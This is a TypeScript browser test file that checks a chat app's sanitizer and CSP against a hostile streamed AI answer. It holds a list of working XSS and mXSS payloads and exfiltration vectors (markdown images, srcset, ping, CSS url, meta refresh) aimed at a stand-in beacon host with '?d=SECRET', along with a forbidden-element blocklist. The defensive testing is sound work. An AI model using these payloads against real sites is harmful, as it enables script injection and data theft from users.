import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { finishChunk, roleChunk, textChunk, usageChunk } from '../support/chunks.js';
import type { FakeScript } from '../support/fake-upstream.js';
import { launchBrowser } from '../support/browser.js';
import { lastAnswer, newUserContext, openChat, sendMessage, startChatServer, waitForAnswerEnd, type ChatServer } from './chat-server.js';

/**
 * Hostile answers (security checklist items 33–38): script vectors, mXSS, beacons and image
 * exfiltration, split across deltas. Each batch runs twice — with the CSP, and with the CSP
 * bypassed so the sanitizer is proven on its own — and must run no script and make no request
 * anywhere but the chat server itself. A local listener on another port counts every hit.
 */

let chat: ChatServer;
let browser: Browser;
let beacon: http.Server;
let beaconHits: string[] = [];
let beaconOrigin = '';

beforeAll(async () => {
  // Two cores run two browser files at once: give page states time to arrive.
  vi.setConfig({ expect: { poll: { timeout: 10_000, interval: 50 } } });
  beacon = http.createServer((req, res) => {
    beaconHits.push(req.url ?? '');
    res.end('gotcha');
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
  beaconOrigin = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
  [chat, browser] = await Promise.all([startChatServer(), launchBrowser()]);
});

afterAll(async () => {
  await browser?.close();
  await chat?.close();
  await new Promise((resolve) => beacon.close(resolve));
});

/**
 * Each entry is one delta; the server forwards them as separate frames (25 ms apart). The mXSS
 * vectors with an unclosed <style> come last: in markdown an HTML block opened by <style> runs to
 * its closing tag, so it (safely) swallows everything after it.
 */
function payloadDeltas(): string[] {
  const b = beaconOrigin;
  return [
    'Intro paragraph.\n\n<script>window.__pwned = "script"</script>\n\n',
    '<img src=x onerror="window.__pwned=\'img\'">\n\n',
    '<img src=x on', 'error="window.__pwned=\'split\'">\n\n',
    '<svg onload="window.__pwned=\'svg\'"><circle r=5></circle></svg>\n\n',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>\n\n',
    '<a href="javascript:window.__pwned=\'href\'">html link</a>\n\n',
    '[upper](JaVaScRiPt:window.__pwned=1) and [tab](java&#x09;script:window.__pwned=1) and ',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [vb](vbscript:msgbox)\n\n',
    `![exfil](${b}/md.png?d=SECRET) and ![ref][pic]\n\n`,
    `[pic]: ${b}/ref.png?d=SECRET\n\n`,
    `<img srcset="${b}/srcset.png?d=SECRET 1x">\n\n`,
    `<a ping="${b}/ping" href="https://example.com/">ping link</a>\n\n`,
    `<link rel=prefetch href="${b}/prefetch"><link rel=stylesheet href="${b}/style.css">\n\n`,
    `<div style="background:url(${b}/bg.png)">styled</div>\n\n`,
    `<video poster="${b}/poster.png"><source src="${b}/video.mp4"></video>\n\n`,
    `<audio src="${b}/audio.mp3"></audio><object data="${b}/object"></object><embed src="${b}/embed">\n\n`,
    `<svg><image href="${b}/svgimage.png"></image></svg><input type=image src="${b}/input.png">\n\n`,
    `<table background="${b}/table.png"><tr><td>cell</td></tr></table>\n\n`,
    `<meta http-equiv="refresh" content="0;url=${b}/refresh"><base href="${b}/">\n\n`,
    `<style>@import url(${b}/import.css); body { background: url(${b}/body.png) }</style>\n\n`,
    `${'<div>'.repeat(300)}deep${'</div>'.repeat(300)}\n\n`,
    `[https://good.example](${b}/spoofed) and [long](https://example.com/${'a'.repeat(3000)})\n\n`,
    '```html\n<img src=x onerror="window.__pwned=\'fence\'">\n',
    '```\n\nLast line before the mXSS tail.\n\n',
    `<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>\n\n`,
    `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='math'">\n\n`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned='form'">\n\n`,
  ];
}

function payloadScript(deltas: string[]): FakeScript {
  const chunks = [roleChunk(), ...deltas.map((text) => textChunk(text)), finishChunk('stop'), usageChunk(5, deltas.length)];
  return { steps: chunks.map((chunk) => ({ chunk, delayMs: 25 })) };
}

interface Observed {
  foreignRequests: string[];
  dialogs: string[];
  page: Page;
  context: BrowserContext;
}

async function renderHostileAnswer(bypassCSP: boolean): Promise<Observed> {
  const context = await newUserContext(browser, { bypassCSP });
  const page = await openChat(context, chat.url);
  const observed: Observed = { foreignRequests: [], dialogs: [], page, context };
  const ownOrigin = new URL(chat.url).origin;
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${ownOrigin}/`) && !url.startsWith(ownOrigin.replace('http', 'ws'))) observed.foreignRequests.push(url);
  });
  page.on('dialog', (dialog) => {
    observed.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  chat.upstream.enqueue(payloadScript(payloadDeltas()));
  await sendMessage(page, 'Show me something nasty');
  await waitForAnswerEnd(page);
  await page.waitForTimeout(300); // give any late beacon a chance to be counted
  return observed;
}

describe.each([
  { label: 'with the CSP', bypassCSP: false },
  { label: 'with the CSP bypassed (sanitizer alone)', bypassCSP: true },
])('a hostile answer $label', ({ bypassCSP }) => {
  let observed: Observed;

  beforeAll(async () => {
    beaconHits = [];
    observed = await renderHostileAnswer(bypassCSP);
  });

  afterAll(async () => {
    await observed?.context.close();
  });

  it('runs no script', async () => {
    expect(await observed.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(observed.dialogs).toEqual([]);
  });

  it('makes no request to any other origin, and the beacon listener saw nothing', () => {
    expect(observed.foreignRequests).toEqual([]);
    expect(beaconHits).toEqual([]);
  });

  it('leaves no dangerous element or attribute in the answer', async () => {
    const body = lastAnswer(observed.page).locator('.markdown');
    const findings = await body.evaluate((root) => {
      const bad: string[] = [];
      const forbidden = 'script, iframe, img, svg, math, video, audio, source, object, embed, link, meta, base, style, form, picture, image';
      for (const element of root.querySelectorAll(forbidden)) bad.push(`<${element.localName}>`);
      for (const element of root.querySelectorAll('*')) {
        for (const attribute of element.attributes) {
          if (/^on|^(src|srcset|poster|ping|style|background|srcdoc|formaction|xlink:href)$/i.test(attribute.name)) {
            bad.push(`${element.localName}[${attribute.name}]`);
          }
        }
      }
      return bad;
    });
    expect(findings).toEqual([]);
  });

  it('keeps only http(s) links, opened safely, with the real address shown', async () => {
    const body = lastAnswer(observed.page).locator('.markdown');
    const links = await body.locator('a[href]').evaluateAll((anchors) =>
      anchors.map((anchor) => ({
        href: anchor.getAttribute('href') ?? '',
        rel: anchor.getAttribute('rel'),
        target: anchor.getAttribute('target'),
        title: anchor.getAttribute('title') ?? '',
        text: anchor.textContent ?? '',
      })),
    );
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) {
      expect(link.href).toMatch(/^https?:\/\//);
      expect(link.rel).toBe('noopener noreferrer');
      expect(link.target).toBe('_blank');
      expect(link.href.length).toBeLessThanOrEqual(2048);
    }
    const spoof = links.find((link) => link.text === 'https://good.example')!;
    expect(spoof.title).toBe(`${beaconOrigin}/spoofed`);
    // The over-long URL lost its href but kept its text.
    expect(await body.getByText('long', { exact: true }).count()).toBe(1);
    for (const text of ['html link', 'upper', 'tab', 'data', 'vb']) {
      const anchor = body.locator('a', { hasText: new RegExp(`^${text}$`) });
      expect(await anchor.getAttribute('href')).toBeNull();
    }
  });

  it('turns images into links the reader may open, never loading them', async () => {
    const body = lastAnswer(observed.page).locator('.markdown');
    const imageLinks = await body.locator('a.image-link').evaluateAll((anchors) => anchors.map((anchor) => anchor.getAttribute('href')));
    expect(imageLinks).toContain(`${beaconOrigin}/md.png?d=SECRET`);
    expect(imageLinks).toContain(`${beaconOrigin}/ref.png?d=SECRET`);
  });

  it('shows code fences as text and keeps the surrounding prose', async () => {
    const body = lastAnswer(observed.page).locator('.markdown');
    expect(await body.locator('pre code').textContent()).toBe('<img src=x onerror="window.__pwned=\'fence\'">\n');
    expect(await body.textContent()).toContain('Intro paragraph.');
    expect(await body.textContent()).toContain('Last line before the mXSS tail.');
  });
});

describe('the sanitizer in the page', () => {
  it('is a current DOMPurify (3.3.2 or later)', async () => {
    const context = await newUserContext(browser);
    try {
      const page = await openChat(context, chat.url);
      // A string, so the test runner does not rewrite the dynamic import for Node.
      const version = (await page.evaluate("import('/static/vendor.js').then((vendor) => vendor.DOMPurify.version)")) as string;
      const [major, minor, patch] = version.split('.').map(Number);
      expect(major! * 1e6 + minor! * 1e3 + patch!).toBeGreaterThanOrEqual(3_003_002);
    } finally {
      await context.close();
    }
  });
});
